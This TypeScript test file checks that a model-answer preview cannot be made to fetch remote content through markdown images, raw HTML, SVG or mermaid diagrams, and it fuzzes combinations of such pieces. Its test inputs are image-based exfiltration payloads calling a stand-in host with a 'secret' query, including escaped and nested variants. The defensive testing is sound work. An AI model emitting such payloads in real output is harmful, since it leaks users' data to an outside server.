/** What a model says cannot make the preview fetch anything, by the parser that the preview has. */
import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { join } from "node:path";
import { test } from "node:test";
import { answerPage } from "../src/answer-page";

interface Token {
  readonly type: string;
  readonly content: string;
  readonly info: string;
  readonly children: readonly Token[] | null;
}
interface Parser {
  parse(text: string, env: object): Token[];
  render(text: string): string;
}

// The tests run from a folder of their own.
const load = createRequire(join(process.cwd(), "package.json"));
const MarkdownIt = load("markdown-it") as new (options: { html: boolean }) => Parser;
const parser = new MarkdownIt({ html: true });

/** What the preview would fetch or have drawn by an extension. */
function fetched(page: string): Token[] {
  const tokens = parser.parse(page, {}).flatMap((token) => [token, ...(token.children ?? [])]);
  return tokens.filter(({ type, content, info }) => {
    const markup = content.replace(/<\/?(pre|code)>/g, "");
    return type === "image" || (type.startsWith("html") && markup.includes("<")) || /mermaid|plantuml/.test(info);
  });
}

test("pictures, HTML and diagrams are words", () => {
  for (const answer of [
    "![log](https://x.example/?q=secret)",
    "\\\\![log](https://x.example/?q=secret)",
    "![log][1]\n\n[1]: https://x.example/?q=secret",
    "<img src=https://x.example/?q=secret>",
    "\\\\<img src=https://x.example/?q=secret>",
    "<svg>\n<image href='https://x.example/'/>\n</svg>",
    "1. a\n   ```\n![log](https://x.example/)\n   ```",
    "1. a\n   ```\n```mermaid\nA@{ img: 'https://x.example/' }\n```",
    "~~~mermaid `x`\nA@{ img: 'https://x.example/' }\n~~~",
    "> - 1) ```mermaid\n",
    "---\n```\n---\n![log](https://x.example/)",
    "$$\n```\n$$\n<img src=https://x.example/>",
    "``` `\n![log](https://x.example/)\n```",
  ]) {
    assert.deepEqual(fetched(answerPage(answer)), [], answer);
  }
});

test("no order of such pieces makes one of them fetch", () => {
  const pieces = ["![x](https://x.example/)", "<img src=https://x.example/>", "```", "````", "~~~", "```mermaid", "`", "\n", "\n\n", "\n> ", "\n- ", "\n1. ", "    ", "   ", "\\", "text", "<!--", "-->", "<pre>", "</code></pre>", ":::", "$$"];
  let seed = 7;
  const next = (below: number): number => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return Math.floor((seed / 2147483648) * below);
  };
  for (let round = 0; round < 5000; round += 1) {
    const answer = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)]).join("");
    assert.deepEqual(fetched(answerPage(answer)), [], JSON.stringify(answer));
  }
});

test("what the model wrote still reads as it was written", () => {
  const same = (answer: string) => { assert.equal(answerPage(answer), answer); };
  same("# Title\n\nA **bold** [link](https://docs.example), `a + b`.\n\n```py\nprint(1)\n```\n\n- one\n  ```sh\n  ls\n  ```");
  const shown = (answer: string) => parser.render(answerPage(answer));
  assert.equal(shown("if `a < b` or a < b"), "<p>if <code>a &lt; b</code> or a &lt; b</p>\n");
  assert.equal(shown("wow! [x](https://x.example)"), '<p>wow! <a href="https://x.example">x</a></p>\n');
  const code = shown("before\n```rust\n#![allow(x)]\n\nlet a: Vec<u8>;\n```\nafter");
  assert.match(code, /<p>before<\/p>\n<pre><code>.*<\/code><\/pre>\n/);
  const text = code.replace(/&#(\d+);/g, (_, number: string) => String.fromCharCode(Number(number)));
  assert.ok(text.includes("#![allow(x)]\n\nlet a: Vec<u8>;</code>"), text);
});
